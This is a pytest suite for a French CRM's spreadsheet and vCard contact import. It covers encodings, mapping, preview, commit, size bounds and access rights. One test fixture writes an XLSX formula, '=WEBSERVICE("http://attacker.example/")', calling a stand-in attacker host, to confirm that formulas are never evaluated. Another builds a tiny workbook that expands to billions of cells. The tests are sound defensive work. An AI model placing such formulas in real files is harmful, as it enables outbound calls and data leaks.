"""Spreadsheet import over HTTP: a .csv (each encoding and separator), .xlsx, .xls-free .ods, formulas and merged
headers, read from files the tests write; the bounds and the broken or encrypted file; the mapping screen (guess,
edit, save and propose again); then the vCard import's preview and commit (statuses, line numbers, accounts, all
or nothing, audit channel "import"); rights and other users' uploads."""
import csv
import io
import re
from datetime import date
from html import unescape

import msoffcrypto.format.ooxml
import openpyxl
import pytest
import xlsxwriter
from odf.opendocument import OpenDocumentSpreadsheet
from odf.table import Table, TableCell, TableRow
from odf.text import P
from sqlalchemy import select

from webapp.extensions import db
from webapp.models import AuditEntry, Client, Contact, ContactExtra, ImportBatch, ImportMapping
from webapp.rights import CONTACTS_LIST

from .conftest import HX, strip_tags
from .test_vcard_import import admin, commit, count, entity, read_form, role_with, upload  # noqa: F401

HEADER = ["Société", "Nom", "Prénom", "E-mail", "Téléphone", "Code postal", "Ville", "Stand visité"]
ROWS = [
    ["Boulangeries Paul", "Zébulon", "Anaïs", "anais@paul.fr", "01 40 00 00 01", "59000", "Lille", "B12"],
    ["Boulangeries Paul", "Lefèvre", "Noël", "noel@paul.fr", "06 12 34 56 78", "75011", "Paris", ""],
    ["Œuvres Çà et Là", "Dürer", "Éloïse", "eloise@oeuvres.fr", "", "69001", "Lyon", "C3"],
]
EXPECTED_TARGETS = ["company", "last_name", "first_name", "email", "phone", "postal_code", "city", "extra"]


def csv_bytes(rows, encoding="utf-8", separator=";") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding)


def xlsx_bytes(rows) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def ods_bytes(rows) -> bytes:
    document = OpenDocumentSpreadsheet()
    table = Table(name="Contacts")
    for row in rows:
        line = TableRow()
        for value in row:
            cell = TableCell(valuetype="string")
            cell.addElement(P(text=value))
            line.addElement(cell)
        table.addElement(line)
    document.spreadsheet.addElement(table)
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def open_mapping(client, csrf, name, content):
    """Upload one file, follow to its mapping screen: (URL, HTML, the form as a browser would send it)."""
    response = upload(client, csrf, (name, content))
    assert response.status_code == 303, strip_tags(response.text)[:400]
    url = response.headers["Location"]
    assert url.endswith("/columns")
    page = client.get(url)
    assert page.status_code == 200
    return url, page.text, read_form(page.text)


def targets(form) -> list[str]:
    return [form.fields[f"col-{i}"] for i in range(len([n for n in form.fields if n.startswith("col-")]))]


def to_preview(client, url, fields):
    """Send the mapping, follow to the preview: (preview URL, HTML, its form)."""
    response = client.post(url, data=fields)
    assert response.status_code == 303, strip_tags(response.text)[:400]
    preview = client.get(response.headers["Location"])
    assert preview.status_code == 200
    return response.headers["Location"], preview.text, read_form(preview.text)


def names(app) -> set[str]:
    with app.app_context():
        return {f"{c.last_name} {c.first_name}" for c in db.session.scalars(select(Contact))}


# ------------------------------------------------------------------------------------------------ reading

@pytest.mark.parametrize("encoding, separator", [
    ("utf-8", ";"), ("utf-8-sig", ";"), ("utf-8", ","), ("cp1252", ";"), ("latin-1", ","), ("utf-16", "\t"),
    ("cp1252", "\t"), ("utf-16-le", ";"),
])
def test_csv_in_each_encoding_and_separator_is_mapped_previewed_and_imported(client, app, admin, csrf, encoding,
                                                                            separator):
    rows = [HEADER, *ROWS] if encoding not in ("cp1252", "latin-1") else \
        [HEADER, *[[cell.replace("Œ", "OE") for cell in row] for row in ROWS]]  # Latin-1 has no Œ
    url, html, form = open_mapping(client, csrf, "salon.csv", csv_bytes(rows, encoding, separator))
    assert targets(form) == EXPECTED_TARGETS
    assert "Zébulon" in html and "anais@paul.fr" in html  # the first values, decoded
    label = {"utf-8": "UTF-8", "utf-8-sig": "UTF-8", "cp1252": "Windows-1252", "latin-1": "Windows-1252",
             "utf-16": "UTF-16", "utf-16-le": "UTF-16"}[encoding]  # Latin-1 text is read as cp1252, its superset
    shown = {"\t": "tabulation"}.get(separator, separator)
    assert f"(encodage {label}, séparateur « {shown} »)" in unescape(html)
    preview_url, preview, form = to_preview(client, url, form.fields)
    assert "3 lignes lues : 3 nouvelles" in strip_tags(preview)
    assert commit(client, preview_url, form.fields).status_code == 303
    assert names(app) == {"Zébulon Anaïs", "Lefèvre Noël", "Dürer Éloïse"}
    with app.app_context():
        anais = db.session.scalars(select(Contact).where(Contact.email == "anais@paul.fr")).one()
        assert (anais.postal_code, anais.city, anais.phone_e164) == ("59000", "Lille", "+33140000001")
        assert [(e.label, e.value) for e in anais.extras] == [("Stand visité", "B12")]
        assert db.session.scalar(select(Client.name).where(Client.id == anais.client_id)) == "Boulangeries Paul"


def test_xlsx_and_ods_written_by_their_libraries_are_read(client, admin, csrf):
    for name, content in (("salon.xlsx", xlsx_bytes([HEADER, *ROWS])), ("salon.ods", ods_bytes([HEADER, *ROWS]))):
        _url, html, form = open_mapping(client, csrf, name, content)
        assert targets(form) == EXPECTED_TARGETS, name
        assert "3 lignes à importer" in strip_tags(html) and "Œuvres Çà et Là" in html


def test_formulas_are_read_as_their_cached_values_never_evaluated(client, app, admin, csrf):
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out)
    sheet = workbook.add_worksheet()
    sheet.write_row(0, 0, ["Nom", "Prénom", "E-mail"])
    sheet.write_row(1, 0, ["Durand", "Léa"])
    # The value the file says the formula had; a spreadsheet running it would give "lea@acme.fr".
    sheet.write_formula(1, 2, '=LOWER(B2)&"@acme.fr"', None, "cache@acme.fr")
    sheet.write_row(2, 0, ["Morel", "Hugo"])
    sheet.write_formula(2, 2, '=WEBSERVICE("http://attacker.example/")', None, "hugo@acme.fr")
    workbook.close()
    url, html, form = open_mapping(client, csrf, "formules.xlsx", out.getvalue())
    assert "cache@acme.fr" in html and "LOWER" not in html and "WEBSERVICE" not in html
    _preview_url, preview, _form = to_preview(client, url, form.fields)
    assert "cache@acme.fr" in preview and "hugo@acme.fr" in preview


def test_merged_header_cells_title_and_group_rows_are_skipped(client, admin, csrf):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A1"] = "Salon Batimat 2026 - contacts du stand"
    sheet.merge_cells("A1:E1")
    sheet["A2"], sheet["C2"] = "Identité", "Coordonnées"
    sheet.merge_cells("A2:B2")
    sheet.merge_cells("C2:E2")
    for column, header in enumerate(["Nom", "Prénom", "E-mail", "Téléphone"], start=1):
        sheet.cell(3, column, header)
    sheet.merge_cells("D3:E3")  # "Téléphone" over the office line and the mobile
    sheet.append(["Blanc", "Inès", "ines@blanc.fr", "01 45 00 00 00", "06 11 22 33 44"])
    out = io.BytesIO()
    workbook.save(out)
    url, html, form = open_mapping(client, csrf, "fusion.xlsx", out.getvalue())
    assert targets(form) == ["last_name", "first_name", "email", "phone", "mobile"]
    assert "Téléphone (2)" in html and "Salon Batimat" not in html
    preview_url, preview, form = to_preview(client, url, form.fields)
    assert re.search(r'id="import-card-0">\s*<td>4</td>', preview)  # the line in the file
    assert "06 11 22 33 44" not in preview and "01 45 00 00 00" in preview


def test_more_rows_than_the_bound_are_refused_and_nothing_kept(client, app, admin, csrf):
    rows = [["Nom", "Prénom"]] + [[f"Nom{i}", "P"] for i in range(50_001)]
    response = upload(client, csrf, ("gros.csv", csv_bytes(rows)), headers=HX)
    assert response.status_code == 422
    assert "gros.csv compte plus de 50\u202f000 lignes : rien n'a été importé" in unescape(response.text)
    assert count(app, ImportBatch) == 0


def test_trailing_empty_columns_are_dropped_and_too_many_columns_refused(client, app, admin, csrf):
    rows = [row + [""] * 3000 for row in [HEADER, *ROWS]]  # what some exports write: separators to the edge
    _url, _html, form = open_mapping(client, csrf, "large.csv", csv_bytes(rows))
    assert targets(form) == EXPECTED_TARGETS
    wide = [[f"Colonne {i}" for i in range(501)], ["x"] * 501]
    response = upload(client, csrf, ("large.csv", csv_bytes(wide)), headers=HX)
    assert response.status_code == 422 and "large.csv compte plus de 500 colonnes" in response.text


def test_the_bounds_are_settings_for_workbooks_too(client, app, admin, csrf, monkeypatch):
    monkeypatch.setitem(app.config, "SHEET_MAX_ROWS", 2)
    response = upload(client, csrf, ("salon.xlsx", xlsx_bytes([HEADER, *ROWS])))
    assert response.status_code == 422 and "compte plus de 2 lignes" in response.text
    monkeypatch.setitem(app.config, "SHEET_MAX_BYTES", 1000)
    response = upload(client, csrf, ("salon.xlsx", xlsx_bytes([HEADER, *ROWS])))
    assert response.status_code == 422 and "dépasse la taille maximale" in response.text
    assert count(app, ImportBatch) == 0


def test_a_small_workbook_naming_cells_far_apart_is_refused_not_read(client, app, admin, csrf):
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out)
    sheet = workbook.add_worksheet()
    sheet.write_row(0, 0, ["Nom", "Prénom"])
    sheet.write(1_048_575, 16_383, "x")  # XFD1048576: a dense grid of 17 billion cells
    workbook.close()
    assert len(out.getvalue()) < 10_000
    response = upload(client, csrf, ("bombe.xlsx", out.getvalue()), headers=HX)
    assert response.status_code == 422
    assert "bombe.xlsx est trop volumineux une fois ouvert" in unescape(response.text)
    assert count(app, ImportBatch) == 0


def test_an_encrypted_and_a_broken_workbook_get_a_message(client, app, admin, csrf):
    encrypted = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(xlsx_bytes([HEADER, *ROWS]))).encrypt("secret", encrypted)
    response = upload(client, csrf, ("secret.xlsx", encrypted.getvalue()), headers=HX)
    assert response.status_code == 422 and "secret.xlsx est protégé par un mot de passe" in response.text
    broken = xlsx_bytes([HEADER, *ROWS])[:900]
    for name, content in (("abime.xlsx", broken), ("faux.ods", b"PK\x03\x04 pas un classeur"),
                          ("vieux.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)):
        response = upload(client, csrf, (name, content), headers=HX)
        assert response.status_code == 422, name
        assert f"{name} n'a pas pu être lu : le fichier est abîmé" in unescape(response.text)
    assert count(app, ImportBatch) == 0


def test_an_empty_file_or_a_header_alone_is_refused(client, app, admin, csrf):
    for name, content, message in (("vide.csv", b"", "vide.csv est vide."),
                                   ("blanc.csv", b"\xef\xbb\xbf\r\n;;\r\n", "blanc.csv ne contient aucune donnée."),
                                   ("entetes.csv", csv_bytes([HEADER]), "entetes.csv n'a aucune ligne sous ses"),
                                   ("vide.xlsx", xlsx_bytes([]), "vide.xlsx ne contient aucune donnée.")):
        response = upload(client, csrf, (name, content), headers=HX)
        assert response.status_code == 422 and message in unescape(response.text), name
    assert count(app, ImportBatch) == 0


def test_a_vcard_upload_has_no_mapping_screen(client, app, admin, csrf):
    response = upload(client, csrf, ("a.vcf", b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Jean Dupont\r\nEND:VCARD\r\n"))
    columns = response.headers["Location"] + "/columns"
    assert client.get(columns).headers["Location"] == "/contacts"
    assert client.post(columns, data={"csrf_token": csrf["token"], "col-0": "last_name"}).status_code == 303
    assert count(app, Contact) == 0 and count(app, ImportBatch) == 1


def test_a_spreadsheet_goes_alone_and_htmx_is_sent_to_the_mapping(client, admin, csrf):
    mixed = upload(client, csrf, ("a.csv", csv_bytes([HEADER, *ROWS])), ("b.vcf", b"BEGIN:VCARD"))
    assert mixed.status_code == 422 and "Importez un tableur à la fois" in mixed.text
    response = upload(client, csrf, ("a.csv", csv_bytes([HEADER, *ROWS])), headers=HX)
    assert response.status_code == 204 and response.headers["HX-Redirect"].endswith("/columns")


# ------------------------------------------------------------------------------------------------ mapping

def test_english_headers_and_values_choose_the_fields(client, admin, csrf):
    rows = [["First Name", "Last Name", "Company Name", "Job Title", "Col5", "Col6", "Col7", "Notes"],
            ["Ann", "Lee", "Acme", "CEO", "ann@acme.com", "06 12 34 56 78", "75008", "met at booth"],
            ["Bob", "Ray", "Acme", "CTO", "bob@acme.com", "07 98 76 54 32", "69002", ""]]
    _url, _html, form = open_mapping(client, csrf, "leads.csv", csv_bytes(rows, separator=","))
    assert targets(form) == ["first_name", "last_name", "company", "function", "email", "mobile", "postal_code",
                             "notes"]


@pytest.mark.parametrize("headers, expected", [
    (["First Name", "Last Name", "Email", "Phone Number", "Mobile Phone Number", "Company Name", "Job Title",
      "Street Address", "City", "Postal Code", "Country/Region"],  # a HubSpot export
     ["first_name", "last_name", "email", "phone", "mobile", "company", "function", "street", "city", "postal_code",
      "country"]),
    (["Salutation", "First Name", "Last Name", "Title", "Account Name", "Mailing Street", "Mailing City",
      "Mailing Zip/Postal Code", "Mailing Country", "Mobile"],  # a Salesforce report
     ["gender", "first_name", "last_name", "function", "company", "street", "city", "postal_code", "country",
      "mobile"]),
    (["Name", "Company", "Job Position", "Street", "Street2", "Zip", "City", "Country", "Phone", "Mobile"],  # Odoo
     ["full_name", "company", "function", "street", "street2", "postal_code", "city", "country", "phone",
      "mobile"]),
    (["Raison sociale", "Civilité", "Nom de famille", "Prénom", "Fonction", "Courriel", "Tél. fixe", "Tél. portable",
      "Adresse 1", "Adresse 2", "CP", "Commune"],  # French
     ["company", "gender", "last_name", "first_name", "function", "email", "phone", "mobile", "street", "street2",
      "postal_code", "city"]),
])
def test_other_crms_headers_choose_the_fields(app, headers, expected):
    from webapp.services.sheet_mapping import guess_mapping
    from webapp.services.sheet_read import Sheet
    sheet = Sheet("export.csv", headers, [["x"] * len(headers)], [2])
    assert guess_mapping(sheet) == expected


def test_a_mapping_without_a_name_is_refused_with_a_message(client, app, admin, csrf):
    url, _html, form = open_mapping(client, csrf, "salon.csv", csv_bytes([HEADER, *ROWS]))
    fields = {**form.fields, "col-1": "", "col-2": "extra"}
    response = client.post(url, data=fields)
    assert response.status_code == 422 and "Indiquez au moins la colonne du nom" in response.text
    assert 'value="extra" selected' in response.text  # the choices made are kept
    assert count(app, Contact) == 0


def test_a_saved_mapping_is_proposed_again_for_the_same_headers_only_to_its_user(client, app, admin, csrf, make,
                                                                               login_as, entity):
    url, _html, form = open_mapping(client, csrf, "salon.csv", csv_bytes([HEADER, *ROWS]))
    edited = {**form.fields, "col-7": "", "col-0": "extra", "save": "1"}
    to_preview(client, url, edited)
    assert count(app, ImportMapping) == 1
    # Another file with the same headers (case and accents aside), other rows.
    same = [[h.upper() for h in HEADER], ROWS[0]]
    _url, html, form = open_mapping(client, csrf, "salon-2.csv", csv_bytes(same))
    assert "Correspondance reprise de votre dernier fichier" in html
    assert targets(form)[0] == "extra" and targets(form)[7] == ""
    # Other headers: guessed again.
    _url, html, form = open_mapping(client, csrf, "autre.csv", csv_bytes([HEADER[:-1], ROWS[0][:-1]]))
    assert "Correspondance reprise" not in html and targets(form)[0] == "company"
    login_as(make.user("BRUN Léo", role="Administrateur", entities=[entity]))
    _url, html, form = open_mapping(client, csrf, "salon-3.csv", csv_bytes([HEADER, *ROWS]))
    assert "Correspondance reprise" not in html and targets(form) == EXPECTED_TARGETS


# ------------------------------------------------------------------------------------------------ preview, commit

def test_the_preview_shows_line_numbers_duplicates_and_errors_then_imports_all_under_import(client, app, admin,
                                                                                           csrf, make, entity):
    paul = make.client_account("Boulangeries Paul", entities=[entity])
    make.contact(paul, "Ancien", "Contact", email="noel@paul.fr")
    rows = [HEADER, ROWS[0], ["", "", "", "", "", "", "", ""], ROWS[1], ["Acme", "", "", "x@acme.fr", "", "", "",
                                                                         ""], ROWS[2]]
    url, _html, form = open_mapping(client, csrf, "salon.csv", csv_bytes(rows))
    preview_url, html, form = to_preview(client, url, form.fields)
    text = strip_tags(html)
    assert "4 lignes lues : 2 nouvelles, 1 doublon possible, 1 erreur" in text
    assert "Ligne sans nom (ni Nom, ni Prénom) : non importée. (ligne 5)" in text  # the blank line 3 is skipped
    assert "même e-mail" in text and "Aperçu de l'import du fichier" in text
    assert form.fields["c1"] == "skip"  # the possible duplicate is skipped unless chosen
    fields = {**form.fields, "c1": "update"}
    assert commit(client, preview_url, fields).status_code == 303
    with app.app_context():
        assert db.session.scalar(select(Contact.first_name).where(Contact.email == "noel@paul.fr")) == "Noël"
        assert db.session.scalar(select(Contact.last_name).where(Contact.email == "noel@paul.fr")) == "Lefèvre"
        channels = set(db.session.scalars(select(AuditEntry.via).where(AuditEntry.record_type == "contact")))
        assert channels == {"import"}
        accounts = set(db.session.scalars(select(Client.name)))
        assert accounts == {"Boulangeries Paul", "Œuvres Çà et Là"}  # one existing, one created by name
    assert names(app) >= {"Zébulon Anaïs", "Dürer Éloïse", "Lefèvre Noël"}


def test_a_conflict_at_commit_writes_nothing(client, app, admin, csrf, make, entity):
    paul = make.client_account("Boulangeries Paul", entities=[entity])
    existing = make.contact(paul, "Ancien", "Contact", email="noel@paul.fr")
    url, _html, form = open_mapping(client, csrf, "salon.csv", csv_bytes([HEADER, *ROWS]))
    preview_url, _html, form = to_preview(client, url, form.fields)
    with app.app_context():
        contact = db.session.get(Contact, existing.id)
        contact.first_name, contact.version = "Changé", contact.version + 1
        db.session.commit()
    response = commit(client, preview_url, {**form.fields, "c1": "update"})
    assert response.status_code == 409, response.status_code
    assert "quelqu'un a modifié Ancien Changé : rien n'a été importé" in strip_tags(unescape(response.text))
    assert count(app, Contact) == 1 and count(app, ContactExtra) == 0


def test_the_preview_links_back_to_the_mapping_and_cancel_drops_the_upload(client, app, admin, csrf):
    url, _html, form = open_mapping(client, csrf, "salon.csv", csv_bytes([HEADER, *ROWS]))
    preview_url = url.removesuffix("/columns")
    assert client.get(preview_url).headers["Location"] == url  # no preview before the mapping
    _preview_url, html, _form = to_preview(client, url, form.fields)
    assert f'href="{url}"' in html
    again = client.get(url)
    assert 'value="extra" selected' in again.text  # the mapping as chosen
    response = client.post(preview_url, data={"csrf_token": form.fields["csrf_token"], "action": "cancel"})
    assert response.status_code == 303 and count(app, ImportBatch) == 0 and count(app, Contact) == 0


def test_rights_and_other_users_uploads(client, app, admin, csrf, make, login_as, entity):
    url, _html, form = open_mapping(client, csrf, "salon.csv", csv_bytes([HEADER, *ROWS]))
    login_as(make.user("BRUN Léo", role="Administrateur", entities=[entity]))
    gone = client.get(url)
    assert gone.status_code == 303 and gone.headers["Location"] == "/contacts"
    assert client.post(url, data=form.fields).status_code == 303 and count(app, Contact) == 0
    login_as(make.user(role=role_with(app, "Lecture", {CONTACTS_LIST}), entities=[entity]))
    assert client.get(url).status_code == 403 and client.post(url, data=form.fields).status_code == 403
    assert upload(client, csrf, ("a.csv", csv_bytes([HEADER, *ROWS]))).status_code == 403


def test_the_mapping_without_csrf_is_refused(client, app, admin, csrf):
    url, _html, form = open_mapping(client, csrf, "salon.csv", csv_bytes([HEADER, *ROWS]))
    fields = {name: value for name, value in form.fields.items() if name != "csrf_token"}
    assert client.post(url, data=fields).status_code == 400


def test_the_list_exported_to_csv_and_xlsx_comes_back_as_duplicates(client, app, admin, csrf, make, entity):
    paul = make.client_account("Boulangeries Paul", entities=[entity])
    make.contact(paul, "Zébulon", "Anaïs", email="anais@paul.fr", function="Gérante")
    for fmt, name in (("csv", "export.csv"), ("xlsx", "export.xlsx")):
        exported = client.post("/contacts/export", data={"csrf_token": csrf["token"], "format": fmt,
                                                         "columns": "all"})
        assert exported.status_code == 200, fmt
        url, _html, form = open_mapping(client, csrf, name, exported.get_data())
        chosen = targets(form)
        assert {"company", "last_name", "first_name", "email", "function"} <= set(chosen), (fmt, chosen)
        _preview_url, html, _form = to_preview(client, url, form.fields)
        assert "1 doublon possible" in strip_tags(html), fmt


def test_dates_and_numbers_typed_in_a_workbook_come_as_text(client, app, admin, csrf, make, entity):
    make.client_account("Roux et Fils", entities=[entity])
    workbook = openpyxl.Workbook()
    workbook.active.append(["Nom", "Prénom", "Date de naissance", "Code postal"])
    workbook.active.append(["Roux", "Lou", date(1990, 5, 17), 33000])
    out = io.BytesIO()
    workbook.save(out)
    url, html, form = open_mapping(client, csrf, "dates.xlsx", out.getvalue())
    assert "1990-05-17" in html and "33000" in html and "33000.0" not in html
    assert targets(form) == ["last_name", "first_name", "birthday", "postal_code"]
    preview_url, _html, form = to_preview(client, url, form.fields)
    # A file without a company column: the user names the account the rows go to.
    assert commit(client, preview_url, {**form.fields, "client-other-0": "Roux et Fils"}).status_code == 303
    with app.app_context():
        lou = db.session.scalars(select(Contact)).one()
        assert (lou.birthday, lou.postal_code) == (date(1990, 5, 17), "33000")


def test_several_columns_for_one_field_keep_every_value(app):
    from webapp.services.sheet_mapping import row_card
    headers = ["Nom", "Nom de jeune fille", "Prénom", "Civilité", "E-mail", "E-mail perso", "Naissance", "Rue",
               "Bâtiment"]
    targets = ["last_name", "last_name", "first_name", "gender", "email", "email", "birthday", "street", "street"]
    row = ["Martin", "Durand", "Léa", "Mme", "lea@acme.fr", "lea@free.fr", "vers 1980", "3 rue Haute", "Bât. B"]
    with app.test_request_context():
        card = row_card(7, row, headers, targets)
    assert (card.last_name, card.first_name, card.gender, card.birthday) == ("Martin", "Léa", "F", None)
    assert [e.value for e in card.emails] == ["lea@acme.fr", "lea@free.fr"]
    assert card.primary().email == "lea@acme.fr"
    assert card.addresses[0].street == "3 rue Haute\nBât. B"
    assert [(e.label, e.value) for e in card.extras] == [("Nom de jeune fille", "Durand"),
                                                          ("Naissance", "vers 1980")]
    assert "non reconnue" in card.warnings[0]
    assert row_card(8, ["", "", "x"], ["A", "B", "C"], ["last_name", "email", ""]) is None
